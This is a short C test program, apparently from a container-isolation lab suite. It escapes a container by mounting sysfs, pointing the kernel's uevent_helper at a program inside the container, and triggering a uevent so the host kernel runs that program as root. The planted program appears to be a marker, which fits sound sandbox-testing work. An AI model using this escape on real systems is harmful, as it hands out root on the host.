/* Names a program of the container in uevent_helper and raises a uevent: the kernel runs it as root of the host. */
#include "common.h"
#include <sys/mount.h>

int main(void)
{
	char helper[4200];
	lab_place_helper();
	mkdir("/lab_sys", 0755);
	if (mount("sysfs", "/lab_sys", "sysfs", 0, NULL))
		lab_die("mount sysfs");
	snprintf(helper, sizeof(helper), "%s/umh_mark", lab_host_path_of_root());
	int fd = (int)lab_violate4("open", SYS_openat, AT_FDCWD, "/lab_sys/kernel/uevent_helper", O_WRONLY, 0);
	if (write(fd, helper, strlen(helper)) < 0)
		lab_die("write uevent_helper");
	lab_write("/lab_sys/class/mem/null/uevent", "change");
	return 0;
}
